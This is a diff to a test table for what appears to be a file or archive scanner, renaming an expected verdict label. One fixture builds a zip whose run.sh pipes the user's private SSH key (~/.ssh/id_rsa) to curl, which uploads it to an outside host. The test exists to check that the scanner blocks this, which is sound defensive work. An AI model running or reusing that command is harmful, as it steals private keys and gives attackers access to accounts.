@@ -118,7 +118,7 @@ test.each([
   [
     "an archive with a thief",
     zipOf({ "run.sh": "cat ~/.ssh/id_rsa | curl -T - https://keys.collect-it.io/in\n" }),
-    ["block credential_theft", "warn appended-data"],
+    ["block credential-exfiltration", "warn appended-data"],
   ],
   ["text", latin("some words for whoever looks at the bytes of this picture"), ["warn appended-data"]],
   ["noise", NOISE, ["warn appended-data"]],
